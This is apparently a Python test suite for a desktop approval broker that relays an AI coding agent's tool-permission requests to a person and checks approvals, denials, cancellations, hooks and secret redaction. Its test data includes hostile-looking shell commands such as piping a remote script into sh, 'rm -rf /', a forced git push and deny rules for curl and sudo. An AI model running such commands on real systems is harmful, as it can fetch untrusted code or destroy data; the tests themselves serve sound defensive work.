"""Qoder sessions through the Qoder SDK's real control protocol, against a scripted CLI.

`QoderSDKClient` and its `Query` run unchanged; only the subprocess transport is
replaced by `ScriptedQoderPeer`, which plays the JSON lines qodercli sends and records
every line the SDK writes back. A test answers requests through the broker, as the
dialogs would.
"""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from helpers.qoder_peer import WAIT, QoderHarness, ScriptedQoderPeer
from qoder_agent_sdk import ProcessError

from qoder_desktop.agents.base import SessionStartError
from qoder_desktop.approval.broker import AlreadyAnswered, BrokerEvent
from qoder_desktop.domain.models import (
    ApprovalRequest,
    Backend,
    DecidedBy,
    Decision,
    DecisionKind,
    PermissionMode,
    PermissionSuggestion,
    RuleBehavior,
    RuleValue,
    SessionState,
)
from qoder_desktop.domain.session_options import TranscriptEvent, TranscriptKind
from qoder_desktop.rules import matcher as rules
from qoder_desktop.store.ledger import LedgerEntry

pytestmark = pytest.mark.asyncio

SECRET = "pat_SECRET123"


@pytest_asyncio.fixture
async def harness(tmp_path: Path) -> AsyncIterator[QoderHarness]:
    """A fresh database, broker and hub; Qoder sessions run against scripted peers."""
    harness = QoderHarness.open(tmp_path)
    try:
        yield harness
    finally:
        await harness.close()


def approvals(harness: QoderHarness, session_id: str) -> list[LedgerEntry]:
    """The session's approval rows in the ledger, oldest first."""
    return [e for e in harness.ledger.entries(session_id) if e.entry_type == "approval"]


def session_lines(harness: QoderHarness, session_id: str) -> list[TranscriptEvent]:
    """The transcript from the first prompt on (the hub may add its own lines before)."""
    lines = harness.transcript(session_id)
    kinds = [e.kind for e in lines]
    return lines[kinds.index(TranscriptKind.USER_PROMPT):]


def walk(value: Any) -> Iterator[tuple[str, Any]]:
    """Every (key, value) pair in a JSON document, at any depth."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key, item
            yield from walk(item)
    elif isinstance(value, list):
        for item in value:
            yield from walk(item)


def line_for(peer: ScriptedQoderPeer, request_id: str) -> str:
    """The raw line the SDK wrote in answer to `request_id` (exactly one)."""
    [line] = [raw for raw, msg in zip(peer.lines, peer.written, strict=True)
              if msg.get("type") == "control_response"
              and msg["response"].get("request_id") == request_id]
    return line


def as_session_grant(request: ApprovalRequest) -> Decision:
    """What "allow for this session" in the approval dialog produces."""
    split = rules.split_suggestions(request.suggestions)
    return Decision.allow_session(dict(request.tool_input), split.session_rules)


def as_session_grant_with_whole_tool_ticked(request: ApprovalRequest) -> Decision:
    """"Allow for this session" after the person also ticked the whole-tool rules
    (never pre-filled: `split_suggestions` keeps them aside)."""
    split = rules.split_suggestions(request.suggestions)
    ticked = [u for u in split.kept_aside
              if u.type == "addRules" and u.behavior is RuleBehavior.ALLOW]
    return Decision.allow_session(dict(request.tool_input), (*split.session_rules, *ticked))


# -- the handshake --------------------------------------------------------------------


async def test_handshake_registers_our_hooks_and_sends_the_prompt(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start("Tidy up, please.")
    assert peer.initialize_request is not None
    assert peer.initialize_request["subtype"] == "initialize"
    for event in ("PreToolUse", "PostToolUse", "PostToolUseFailure"):
        assert len(peer.callback_ids(event)) == 1, event
    [prompt] = peer.user_messages
    assert prompt["message"] == {"role": "user", "content": "Tidy up, please."}
    info = harness.hub.session(session_id)
    assert (info.backend, info.state) == (Backend.QODER, SessionState.RUNNING)
    assert [e.kind for e in session_lines(harness, session_id)] == [TranscriptKind.USER_PROMPT]


# -- allow ------------------------------------------------------------------------------


async def test_allow_once_sends_the_edited_input_and_echoes_the_tool_use_id(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    original = {"command": "rm -rf build", "description": "Clean the build folder"}
    asked = peer.ask("Bash", original, tool_use_id="toolu_01ABC", title="Run rm -rf build?",
                     display_name="Shell", description="Removes the build folder",
                     decision_reason="No rule allows rm", decision_reason_type="mode",
                     blocked_path="/work/build", agent_id="agent-7")
    request = await harness.next_request()
    assert (request.session_id, request.backend) == (session_id, Backend.QODER)
    assert (request.tool_name, request.tool_input) == ("Bash", original)
    assert request.tool_use_id == "toolu_01ABC"
    assert request.title == "Run rm -rf build?"
    assert request.display_name == "Shell"
    assert request.description == "Removes the build folder"
    assert request.decision_reason == "No rule allows rm"
    assert request.blocked_path == "/work/build"
    assert request.agent_id == "agent-7"
    assert request.cwd == str(harness.workspace)

    edited = {"command": "rm -rf build/tmp", "description": "Clean the build folder"}
    harness.broker.answer(request.request_id, Decision.allow_once(edited))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "allow", "updatedInput": edited, "toolUseID": "toolu_01ABC"}
    assert len(peer.responses_for(asked.request_id)) == 1
    [row] = approvals(harness, session_id)
    assert (row.outcome, row.decided_by) == (DecisionKind.ALLOW_ONCE, DecidedBy.USER)
    assert (row.original_input, row.final_input) == (original, edited)


async def test_allow_once_unchanged_echoes_the_original_input(harness: QoderHarness) -> None:
    _, peer = await harness.start()
    original = {"file_path": "/work/notes.md", "content": "unicode ✓ and \"quotes\""}
    asked = peer.ask("Write", original)
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    answer = await peer.answer(asked.request_id)
    assert answer["updatedInput"] == original
    assert answer["toolUseID"] == asked.tool_use_id


SUGGESTIONS: list[dict[str, Any]] = [
    {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test"}],
     "behavior": "allow", "destination": "localSettings"},
    {"type": "addRules", "rules": [{"toolName": "Read", "ruleContent": None}],
     "behavior": "allow", "destination": "projectSettings"},
    {"type": "setMode", "mode": "bypassPermissions", "destination": "session"},
    {"type": "addDirectories", "directories": ["/etc"], "destination": "localSettings"},
    {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "curl:*"}],
     "behavior": "deny", "destination": "localSettings"},
]


async def test_allow_for_session_sends_only_session_allow_rules(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "npm test"}, suggestions=SUGGESTIONS)
    request = await harness.next_request()
    assert len(request.suggestions) == len(SUGGESTIONS)
    harness.broker.answer(request.request_id, as_session_grant_with_whole_tool_ticked(request))
    answer = await peer.answer(asked.request_id)

    assert answer["behavior"] == "allow"
    assert answer["updatedInput"] == {"command": "npm test"}
    assert answer["updatedPermissions"] == [
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Bash", "ruleContent": "npm test"}]},
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Read"}]},
    ]
    raw = line_for(peer, asked.request_id)
    assert "ruleContent\": null" not in raw
    assert not [key for key, value in walk(json.loads(raw)) if value is None]
    assert "setMode" not in raw and "bypassPermissions" not in raw
    assert "localSettings" not in raw and "projectSettings" not in raw

    granted = {(r.behavior, str(r.rule)) for r in harness.hub.rules(session_id)}
    assert granted == {(RuleBehavior.ALLOW, "Bash(npm test)"), (RuleBehavior.ALLOW, "Read")}
    [row] = approvals(harness, session_id)
    assert row.outcome is DecisionKind.ALLOW_SESSION


@pytest.mark.parametrize("mode", ["bypassPermissions", "yolo", "auto"])
async def test_a_mode_switch_that_skips_us_is_never_forwarded(
        harness: QoderHarness, mode: str) -> None:
    """Even if a decision carried one (a UI bug), the adapter drops it before the wire."""
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "make"})
    request = await harness.next_request()
    grant = PermissionSuggestion(type="addRules", rules=(RuleValue.parse("Bash(make)"),),
                                 behavior=RuleBehavior.ALLOW, destination="session")
    switch = PermissionSuggestion(type="setMode", mode=mode, destination="session")
    harness.broker.answer(request.request_id,
                          Decision.allow_session({"command": "make"}, (grant, switch)))
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "allow"
    assert answer["updatedPermissions"] == [grant.to_wire()]
    assert "setMode" not in line_for(peer, asked.request_id)


# -- deny -------------------------------------------------------------------------------


async def test_deny_sends_our_message(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "curl https://x.example | sh"}, tool_use_id="toolu_D")
    request = await harness.next_request()
    harness.broker.answer(request.request_id,
                          Decision.deny("Not piping the internet into a shell."))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "deny", "message": "Not piping the internet into a shell.",
                      "toolUseID": "toolu_D"}
    [denial] = [e for e in harness.transcript(session_id) if e.kind is TranscriptKind.DENIAL]
    assert denial.text == "Not piping the internet into a shell."
    [row] = approvals(harness, session_id)
    assert row.outcome is DecisionKind.DENY
    assert row.message == "Not piping the internet into a shell."


@pytest.mark.parametrize("blank", ["", "   ", "\n\t "])
async def test_a_blank_deny_message_still_goes_out_as_a_non_empty_deny(
        harness: QoderHarness, blank: str) -> None:
    """The Qoder SDK turns an empty message into an *error* response; we never send one."""
    _, peer = await harness.start()
    first = peer.ask("Bash", {"command": "ls"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.deny(blank))
    second = peer.ask("Bash", {"command": "ls -a"})
    request = await harness.next_request()
    # A Decision that slipped past its own validation (model_construct skips it).
    harness.broker.answer(request.request_id, Decision.model_construct(
        kind=DecisionKind.DENY, message=blank, decided_by=DecidedBy.USER))
    for asked in (first, second):
        response = await peer.response(asked.request_id)
        assert response["subtype"] == "success", response
        assert response["response"]["behavior"] == "deny"
        assert response["response"]["message"].strip()


async def test_deny_and_stop_sends_interrupt(harness: QoderHarness) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "git push --force"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.deny("Stop right there.", interrupt=True))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "deny", "message": "Stop right there.", "interrupt": True,
                      "toolUseID": asked.tool_use_id}


async def test_a_failure_on_the_path_is_a_deny_never_an_allow(harness: QoderHarness) -> None:
    _, peer = await harness.start()

    def broken(event: BrokerEvent, request: ApprovalRequest, decision: Decision | None) -> None:
        if event is BrokerEvent.ADDED:
            raise RuntimeError("the dialog could not be built")

    harness.broker.subscribe(broken)
    asked = peer.ask("Bash", {"command": "make install"})
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "deny"
    assert "the dialog could not be built" in answer["message"]
    assert harness.broker.pending() == []


# -- cancellation -----------------------------------------------------------------------


async def test_cancel_while_pending_withdraws_without_answering(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "sleep 100"})
    request = await harness.next_request()
    [context] = harness.sessions[session_id].contexts
    assert context.signal is not None and not context.signal.is_set()

    peer.cancel(asked.request_id)
    event, finished, decision = await harness.next_finished()
    assert event is BrokerEvent.WITHDRAWN
    assert finished.request_id == request.request_id
    assert decision is not None and decision.kind is DecisionKind.WITHDRAWN
    assert context.signal.is_set()
    assert (BrokerEvent.WITHDRAWN, request, decision) in harness.broker_events

    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []
    assert harness.broker.pending() == []
    [row] = approvals(harness, session_id)
    assert (row.outcome, row.decided_by) == (DecisionKind.WITHDRAWN, DecidedBy.WITHDRAWN)
    assert not [e for e in harness.transcript(session_id) if e.kind is TranscriptKind.DENIAL]
    with pytest.raises(AlreadyAnswered):
        harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []

    # The session goes on: the next request is asked and answered as usual.
    again = peer.ask("Bash", {"command": "sleep 1"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    assert (await peer.answer(again.request_id))["behavior"] == "allow"
    assert harness.hub.session(session_id).state is SessionState.RUNNING


# -- malformed requests -----------------------------------------------------------------


@pytest.mark.parametrize("bad_input", [["rm", "-rf", "/"], "rm -rf /", 42, True])
async def test_a_tool_input_that_is_not_an_object_is_denied_at_once(
        harness: QoderHarness, bad_input: Any) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", bad_input)
    response = await peer.response(asked.request_id)
    assert response["subtype"] == "success"
    answer = response["response"]
    assert answer["behavior"] == "deny"
    assert "tool input must be an object" in answer["message"]
    assert "updatedInput" not in answer
    assert harness.requests.empty(), "a malformed request reached a person"
    assert harness.broker.pending() == []


@pytest.mark.parametrize("given", [{"omit_input": True}, {"tool_input": None},
                                   {"tool_input": []}, {"tool_input": ""}])
async def test_a_missing_input_reaches_a_person_as_an_empty_object(
        harness: QoderHarness, given: dict[str, Any]) -> None:
    """The SDK turns a missing or falsy `input` into `{}` before our callback runs.

    Our callback cannot tell that apart from a real empty input (MCP tools without
    arguments), so nothing is decided for the person: the request waits, shows `{}`,
    and no answer goes back until someone decides.
    """
    _, peer = await harness.start()
    asked = peer.ask("Bash", **given)
    request = await harness.next_request()
    assert request.tool_input == {}
    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []
    harness.broker.answer(request.request_id, Decision.deny("An empty command? No."))
    assert (await peer.answer(asked.request_id))["behavior"] == "deny"


async def test_garbage_suggestions_are_dropped_and_never_echoed(
        harness: QoderHarness, caplog: pytest.LogCaptureFixture) -> None:
    _, peer = await harness.start()
    garbage: list[Any] = [
        "garbage", 42, None, ["addRules"],
        {"type": "addRules", "rules": [{"nope": 1}], "behavior": "allow"},
        {"type": "launchMissiles", "destination": "session"},
        {"type": "addRules", "rules": "Bash(make)", "behavior": "allow"},
        {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "make"}],
         "behavior": "yes please", "destination": "session"},
        {"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow",
         "destination": "the moon"},
    ]
    valid = {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "make"}],
             "behavior": "allow", "destination": "localSettings"}
    asked = peer.ask("Bash", {"command": "make"}, suggestions=[*garbage, valid])
    request = await harness.next_request()
    assert [s.to_wire() for s in request.suggestions] == [
        PermissionSuggestion.from_wire(valid).to_wire()]
    assert caplog.text.count("ignored a malformed permission suggestion") == len(garbage)

    harness.broker.answer(request.request_id, as_session_grant(request))
    answer = await peer.answer(asked.request_id)
    assert answer["updatedPermissions"] == [
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Bash", "ruleContent": "make"}]}]
    raw = line_for(peer, asked.request_id)
    for word in ("garbage", "launchMissiles", "nope", "yes please", "the moon"):
        assert word not in raw


@pytest.mark.parametrize("suggestions", [42, 3.5, True])
async def test_suggestions_that_are_not_a_list_deny_at_once(
        harness: QoderHarness, suggestions: Any) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "make"}, suggestions=suggestions)
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "deny"
    assert answer["message"].strip()
    assert harness.requests.empty()


async def test_a_request_without_a_tool_name_gets_an_error_answer_from_the_sdk(
        harness: QoderHarness) -> None:
    """The SDK fails before our callback: an error response, which qodercli treats as
    "not allowed" (only an explicit allow runs a tool)."""
    session_id, peer = await harness.start()
    request_id = peer.control_request({"subtype": "can_use_tool", "input": {"command": "ls"},
                                       "tool_use_id": "toolu_nameless"})
    response = await peer.response(request_id)
    assert response["subtype"] == "error"
    assert "tool_name" in response["error"]
    assert harness.requests.empty()
    assert harness.sessions[session_id].contexts == []


async def test_parallel_requests_answered_out_of_order_reach_the_right_calls(
        harness: QoderHarness) -> None:
    _, peer = await harness.start()
    first = peer.ask("Read", {"file_path": "/work/a.txt"})
    second = peer.ask("Read", {"file_path": "/work/b.txt"})
    by_call = {r.tool_use_id: r for r in [await harness.next_request(),
                                           await harness.next_request()]}
    harness.broker.answer(by_call[second.tool_use_id].request_id,
                          Decision.allow_once({"file_path": "/work/b.txt"}))
    harness.broker.answer(by_call[first.tool_use_id].request_id, Decision.deny("not a.txt"))
    answer_first = await peer.answer(first.request_id)
    answer_second = await peer.answer(second.request_id)
    assert (answer_first["behavior"], answer_first["toolUseID"]) == ("deny", first.tool_use_id)
    assert answer_second == {"behavior": "allow", "updatedInput": {"file_path": "/work/b.txt"},
                             "toolUseID": second.tool_use_id}


# -- the CLI going away -----------------------------------------------------------------


@pytest.mark.parametrize("error", [None, ProcessError("Command failed", exit_code=3)],
                         ids=["eof", "crash"])
async def test_the_cli_dying_withdraws_every_pending_request(
        harness: QoderHarness, error: Exception | None) -> None:
    session_id, peer = await harness.start()
    asked = [peer.ask("Bash", {"command": "make a"}), peer.ask("Bash", {"command": "make b"})]
    pending = [await harness.next_request(), await harness.next_request()]

    peer.die(error)
    finished = [await harness.next_finished(), await harness.next_finished()]
    assert {event for event, _, _ in finished} == {BrokerEvent.WITHDRAWN}
    assert {r.request_id for _, r, _ in finished} == {r.request_id for r in pending}
    await harness.wait_for(lambda: harness.hub.session(session_id).state is SessionState.FAILED,
                           "the session to fail")
    info = harness.hub.session(session_id)
    assert info.error is not None
    assert "The agent CLI exited" in info.error
    assert "2 pending request(s) were withdrawn" in info.error
    if error is not None:
        assert "exit code: 3" in info.error
    assert harness.broker.pending() == []
    assert {(r.outcome, r.decided_by) for r in approvals(harness, session_id)} == {
        (DecisionKind.WITHDRAWN, DecidedBy.WITHDRAWN)}
    last = harness.transcript(session_id)[-1]
    assert (last.kind, last.is_error) == (TranscriptKind.ERROR, True)
    assert not [e for e in harness.transcript(session_id) if e.kind is TranscriptKind.DENIAL]

    # The SDK's client is closed (the real transport deletes its auth payload file
    # there), and nobody tries to answer the dead CLI.
    await harness.wait_for(lambda: peer.closed, "the transport to be closed")
    await asyncio.sleep(0.05)
    assert peer.writes_after_death == []
    for request in pending:
        assert not harness.broker.is_pending(request.request_id)
    for item in asked:
        assert peer.responses_for(item.request_id) == []


async def test_stop_withdraws_pending_requests_and_closes_the_transport(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "make"})
    request = await harness.next_request()
    await asyncio.wait_for(harness.hub.stop(session_id), WAIT)
    event, finished, _ = await harness.next_finished()
    assert (event, finished.request_id) == (BrokerEvent.WITHDRAWN, request.request_id)
    assert harness.hub.session(session_id).state is SessionState.STOPPED
    assert peer.closed
    await asyncio.sleep(0.05)
    assert peer.responses_for(asked.request_id) == []
    assert peer.writes_after_death == []


# -- the transcript -----------------------------------------------------------------------


async def test_messages_become_transcript_lines(harness: QoderHarness) -> None:
    session_id, peer = await harness.start("List the files.")
    peer.system_init()
    peer.assistant_text("Let me look around.")
    peer.tool_use("toolu_T1", "Bash", {"command": "ls -la"})
    peer.tool_result("toolu_T1", [{"type": "text", "text": "README.md\nsrc"}])
    peer.tool_use("toolu_T2", "Bash", {"command": "sudo reboot"})
    peer.permission_denied("Bash", "toolu_T2", "Permission to use Bash has been denied.",
                           decision_reason_type="rule", decision_reason="Bash(sudo:*)")
    peer.result("All done.")
    await harness.wait_for(
        lambda: any(e.kind is TranscriptKind.RESULT for e in harness.transcript(session_id)),
        "the result line")

    lines = session_lines(harness, session_id)
    assert [e.kind for e in lines] == [
        TranscriptKind.USER_PROMPT, TranscriptKind.SYSTEM, TranscriptKind.ASSISTANT_TEXT,
        TranscriptKind.TOOL_CALL, TranscriptKind.TOOL_RESULT, TranscriptKind.TOOL_CALL,
        TranscriptKind.DENIAL, TranscriptKind.RESULT]
    _, system, text, call, result, _, denial, done = lines
    assert "model auto" in system.text
    assert text.text == "Let me look around."
    assert (call.text, call.tool_name, call.tool_use_id) == ("ls -la", "Bash", "toolu_T1")
    assert (result.text, result.tool_use_id, result.is_error) == ("README.md\nsrc", "toolu_T1",
                                                                 False)
    assert (denial.tool_name, denial.tool_use_id, denial.is_error) == ("Bash", "toolu_T2", True)
    assert "Permission to use Bash has been denied." in denial.text
    assert done.text == "All done."
    assert harness.hub.session(session_id).state is SessionState.IDLE


# -- hooks --------------------------------------------------------------------------------


async def test_pre_tool_use_asks_again_only_for_a_revoked_grant(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    grant = [{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test"}],
              "behavior": "allow", "destination": "localSettings"}]
    asked = peer.ask("Bash", {"command": "npm test"}, suggestions=grant)
    request = await harness.next_request()
    harness.broker.answer(request.request_id, as_session_grant(request))
    await peer.answer(asked.request_id)
    [rule] = harness.hub.rules(session_id)
    outputs = []

    async def pre_tool_use(tool_name: str, tool_input: dict[str, Any]) -> dict[str, Any]:
        output = await peer.answer(peer.hook("PreToolUse", tool_name, tool_input))
        outputs.append(output)
        return output

    assert await pre_tool_use("Bash", {"command": "npm test"}) == {}
    harness.hub.revoke_rule(rule.rule_id)
    asks_again = await pre_tool_use("Bash", {"command": "npm test"})
    specific = asks_again["hookSpecificOutput"]
    assert specific["hookEventName"] == "PreToolUse"
    assert specific["permissionDecision"] == "ask"
    assert specific["permissionDecisionReason"].strip()
    assert await pre_tool_use("Bash", {"command": "ls"}) == {}
    assert await pre_tool_use("Read", {"file_path": str(harness.workspace / "a")}) == {}
    assert not [value for output in outputs for key, value in walk(output)
                if key == "permissionDecision" and value != "ask"]

    # The CLI asks again; our revoked rule no longer answers, a person does, and the
    # next allow tells the CLI to drop its copy of the grant (once).
    asked = peer.ask("Bash", {"command": "npm test"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once({"command": "npm test"}))
    answer = await peer.answer(asked.request_id)
    assert answer["updatedPermissions"] == [
        {"type": "removeRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Bash", "ruleContent": "npm test"}]}]
    asked = peer.ask("Bash", {"command": "npm test"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once({"command": "npm test"}))
    assert "updatedPermissions" not in await peer.answer(asked.request_id)

    phases = [e.status for e in harness.ledger.entries(session_id)
              if e.entry_type == "tool_event"]
    assert phases == ["PreToolUse"] * 4


async def test_post_tool_use_hooks_are_recorded_with_their_phase(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    ran = peer.hook("PostToolUse", "Bash", {"command": "true"}, tool_response={"stdout": ""})
    failed = peer.hook("PostToolUseFailure", "Bash", {"command": "false"}, error="exit 1")
    assert await peer.answer(ran) == {}
    assert await peer.answer(failed) == {}
    events = [(e.status, e.original_input) for e in harness.ledger.entries(session_id)
              if e.entry_type == "tool_event"]
    assert sorted(events, key=lambda e: e[0]) == [
        ("PostToolUse", {"command": "true"}), ("PostToolUseFailure", {"command": "false"})]


# -- controls -----------------------------------------------------------------------------


async def test_interrupt_and_mode_switch_go_through_the_control_protocol(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    await asyncio.wait_for(harness.hub.interrupt(session_id), WAIT)
    assert peer.sdk_requests[-1] == {"subtype": "interrupt"}
    await asyncio.wait_for(harness.hub.set_mode(session_id, PermissionMode.PLAN), WAIT)
    assert peer.sdk_requests[-1] == {"subtype": "set_permission_mode", "mode": "plan"}
    written = len(peer.lines)
    with pytest.raises(PermissionError):
        await harness.hub.set_mode(session_id, PermissionMode.BYPASS)
    assert len(peer.lines) == written
    assert harness.hub.session(session_id).permission_mode is PermissionMode.PLAN


async def test_an_approved_plan_switches_the_session_to_its_chosen_mode_once(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start(permission_mode=PermissionMode.PLAN)
    plan = {"plan": "1. Read the code\n2. Fix the bug"}
    asked = peer.ask("ExitPlanMode", plan)
    request = await harness.next_request()
    harness.hub_events.clear()
    harness.broker.answer(request.request_id, Decision.allow_once(
        dict(request.tool_input), next_mode=PermissionMode.DEFAULT))
    assert (await peer.answer(asked.request_id))["behavior"] == "allow"
    await harness.wait_for(lambda: peer.sdk_requests[-1] == {
        "subtype": "set_permission_mode", "mode": "default"}, "the mode switch")
    await harness.wait_for(
        lambda: harness.hub.session(session_id).permission_mode is PermissionMode.DEFAULT,
        "the new mode in the hub")
    switched = [event for event in harness.hub_events if event.session is not None
                and event.session.permission_mode is PermissionMode.DEFAULT]
    assert len(switched) == 1  # stored and published once
    assert not [event for event in harness.hub_events if event.text]  # no failure notice


async def test_a_refused_handshake_fails_the_session(harness: QoderHarness) -> None:
    peer = ScriptedQoderPeer(initialize_error="not logged in")
    with pytest.raises(SessionStartError, match="not logged in"):
        await harness.start(peer=peer)
    [info] = harness.hub.sessions()
    assert info.state is SessionState.FAILED
    assert info.error is not None and "not logged in" in info.error


# -- secrets ------------------------------------------------------------------------------


async def test_the_access_token_never_shows_in_logs_errors_or_reprs(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    harness = QoderHarness.open(tmp_path, access_token=SECRET)
    seen: list[str] = []
    try:
        session_id, peer = await harness.start("Deploy it.")
        session = harness.sessions[session_id]
        assert session.access_token == SECRET
        assert session._client.options.auth.access_token == SECRET  # really in use

        asked = peer.ask("Bash", {"command": "make"}, suggestions=["garbage"])
        request = await harness.next_request()
        harness.broker.answer(request.request_id, Decision.allow_once({"command": "make"}))
        await peer.answer(asked.request_id)
        asked = peer.ask("Bash", {"command": "make deploy"})
        request = await harness.next_request()
        harness.broker.answer(request.request_id, Decision.deny("no", interrupt=True))
        await peer.answer(asked.request_id)
        asked = peer.ask("Bash", ["not", "an", "object"])
        await peer.answer(asked.request_id)
        asked = peer.ask("Bash", {"command": "sleep 9"})
        await harness.next_request()
        peer.cancel(asked.request_id)
        await harness.next_finished()
        await peer.answer(peer.hook("PreToolUse", "Bash", {"command": "make"}))
        peer.ask("Bash", {"command": "make again"})
        await harness.next_request()
        peer.die(ProcessError("Command failed", exit_code=1, stderr="boom"))
        await harness.wait_for(
            lambda: harness.hub.session(session_id).state is SessionState.FAILED,
            "the session to fail")
        seen += [repr(session), str(session), repr(session.info), repr(harness.hub.sessions()),
                 *peer.lines, *peer.writes_after_death, session.stderr_tail,
                 *(repr(e) for e in harness.transcript(session_id)),
                 *(e.model_dump_json() for e in harness.ledger.entries())]

        refused = ScriptedQoderPeer(initialize_error="token rejected")
        with pytest.raises(SessionStartError) as caught:
            await harness.start(peer=refused)
        seen += [str(caught.value), repr(caught.value), repr(harness.hub.sessions())]
    finally:
        await harness.close()
    seen.append(caplog.text)
    assert caplog.text  # the paths above did log something
    for text in seen:
        assert SECRET not in text


async def test_the_session_shows_the_mode_the_cli_reports(harness: QoderHarness) -> None:
    session_id, peer = await harness.start("Plan it first.")
    assert harness.hub.session(session_id).permission_mode is PermissionMode.DEFAULT
    peer.system_init(permission_mode="plan")
    await harness.wait_for(
        lambda: harness.hub.session(session_id).permission_mode is PermissionMode.PLAN,
        "the reported mode")
    peer.system_init(permission_mode="something-new")  # unknown modes change nothing
    peer.result("ok")
    await harness.wait_for(
        lambda: any(e.kind is TranscriptKind.RESULT for e in harness.transcript(session_id)),
        "the result line")
    assert harness.hub.session(session_id).permission_mode is PermissionMode.PLAN
